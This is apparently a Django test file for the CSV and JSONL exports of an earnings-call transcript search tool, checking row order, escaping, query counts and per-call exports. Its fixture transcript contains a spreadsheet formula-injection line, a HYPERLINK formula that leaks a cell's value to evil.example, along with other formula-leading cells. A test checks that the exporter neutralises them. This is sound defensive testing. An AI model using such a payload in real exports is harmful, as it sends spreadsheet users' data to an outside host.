"""Exports of a search's every match, of one call and of one exchange: rows, order, escaping, safety."""

import csv
import io
import json
import tempfile
from pathlib import Path

from django.db import connection
from django.test import TestCase
from django.test.utils import CaptureQueriesContext

from calls.models import Call, Exchange, Utterance
from insight.exports import COLUMNS, neutralised
from tests.archive import import_archive, ingest

FORMULAS = """Operator
Welcome to the Formula Example Corp first quarter 2021 earnings call.
Jane Roe - Chief Executive Officer
=HYPERLINK("http://evil.example/?leak="&A1,"Click for the margin")
@SUM(1+1) is what our margin model says.
+1 point of margin, as a cell would read it.
Margins, "quoted", and a comma: all kept as written.
"""


def body(response) -> bytes:
    return b"".join(response.streaming_content)


class ExportTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        import_archive()
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "formula-example-2021-q1.txt"
            path.write_text(FORMULAS)
            ingest(path)

    def csv_rows(self, url, params=None) -> list[dict]:
        response = self.client.get(url, params or {})
        self.assertEqual(response.status_code, 200)
        self.assertTrue(response.streaming)
        self.assertEqual(response["Content-Type"], "text/csv; charset=utf-8")
        self.assertIn("attachment;", response["Content-Disposition"])
        raw = body(response)
        self.assertTrue(raw.startswith("\ufeff".encode()), "UTF-8 with a BOM, for Excel")
        reader = csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""))
        self.assertEqual(reader.fieldnames, COLUMNS)
        return list(reader)

    def search_urls(self, **params) -> list[str]:
        """Every hit's permalink, in order, by paging through the search's own JSON."""
        urls, page = [], 1
        while True:
            data = self.client.get("/api/search/", {**params, "page": page}).json()
            urls += [hit["url"] for hit in data["results"]]
            if page >= data["pages"]:
                return urls
            page += 1

    def test_every_match_in_the_searchs_order(self):
        for params in (
            {"q": "revenue"},
            {"q": "margin", "sort": "oldest"},
            {"q": "營收"},
            {"role": "analyst"},
            # The marked filters beside a query, and a facet with an unknown value among its values.
            {"q": "revenue", "role": "executive", "year": ["2023", "2013"]},
            {"q": "margin", "company": ["northwind-optical", "nosuch"]},
        ):
            rows = self.csv_rows("/search/export.csv", params)
            expected = self.search_urls(**params)
            self.assertEqual(len(rows), self.client.get("/api/search/", params).json()["total"], params)
            self.assertEqual([row["permalink"] for row in rows], expected, params)

    def test_cells_hold_the_stored_text_csv_escaped(self):
        rows = self.csv_rows("/search/export.csv", {"q": "quoted comma"})
        (row,) = rows
        self.assertEqual(row["text"], 'Margins, "quoted", and a comma: all kept as written.')
        self.assertEqual(row["company"], "Formula Example")
        self.assertEqual((row["fiscal_year"], row["fiscal_quarter"]), ("2021", "1"))
        self.assertEqual((row["speaker"], row["role"], row["section"]), ("Jane Roe", "executive", "prepared"))
        # Chinese survives the trip (the bilingual seed's translations).
        chinese = self.csv_rows("/search/export.csv", {"q": "營收"})
        stored = Utterance.objects.filter(translation__contains="營收").values_list("translation", flat=True)
        self.assertEqual({row["translation"] for row in chinese}, set(stored))

    def test_formula_cells_are_neutralised(self):
        rows = {
            row["text"]: row for row in self.csv_rows("/search/export.csv", {"company": "formula-example"})
        }
        stored = list(
            Utterance.objects.filter(company__slug="formula-example").values_list("text", flat=True)
        )
        dangerous = [text for text in stored if text[:1] in "=+-@"]
        self.assertEqual(len(dangerous), 3, stored)
        for text in dangerous:
            self.assertIn("'" + text, rows)
        self.assertFalse(
            any(cell[:1] in "=+-@\t\r" for row in rows.values() for cell in row.values() if cell)
        )
        for value in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
            self.assertEqual(neutralised(value), "'" + value)
        self.assertEqual(neutralised("1-1"), "1-1")
        self.assertEqual(neutralised(2021), 2021)

    def test_jsonl_has_the_same_rows(self):
        response = self.client.get("/search/export.jsonl", {"q": "revenue"})
        lines = body(response).decode().splitlines()
        rows = [json.loads(line) for line in lines]
        self.assertEqual([row["permalink"] for row in rows], self.search_urls(q="revenue"))
        self.assertEqual(list(rows[0]), COLUMNS)
        formula = self.client.get("/search/export.jsonl", {"q": "HYPERLINK"})
        (row,) = [json.loads(line) for line in body(formula).decode().splitlines()]
        self.assertTrue(row["text"].startswith("=HYPERLINK"))  # JSON is data, not a spreadsheet

    def test_one_query_whatever_the_number_of_rows(self):
        counts = {}
        for query in ("revenue", "margin", ""):
            with CaptureQueriesContext(connection) as queries:
                rows = body(self.client.get("/search/export.csv", {"q": query} if query else {}))
            counts[query] = len(queries)
            self.assertGreater(rows.count(b"\n"), 50)
        self.assertEqual(len(set(counts.values())), 1, counts)
        self.assertLessEqual(counts["revenue"], 2, counts)

    def test_one_call_and_one_exchange(self):
        call = Call.objects.get(company__slug="northwind-optical", fiscal_year=2023)
        rows = self.csv_rows("/calls/northwind-optical/2023-q3/export.csv")
        positions = list(call.utterances.order_by("position").values_list("position", flat=True))
        self.assertEqual([row["permalink"].rsplit("#p", 1)[1] for row in rows], [str(p) for p in positions])
        exchange = Exchange.objects.get(call=call, number=2)
        rows = self.csv_rows("/calls/northwind-optical/2023-q3/qa/2/export.csv")
        expected = Utterance.objects.filter(turn__exchange=exchange).order_by("position")
        self.assertEqual([row["text"] for row in rows], [u.text for u in expected])
        self.assertGreater(len(rows), 1)
        jsonl = body(self.client.get("/calls/northwind-optical/2023-q3/qa/2/export.jsonl")).decode()
        self.assertEqual(len(jsonl.splitlines()), len(rows))
        self.assertEqual(
            self.client.get("/calls/northwind-optical/2023-q3/qa/99/export.csv").status_code, 404
        )
        self.assertEqual(self.client.get("/calls/nosuch/2023-q3/export.csv").status_code, 404)
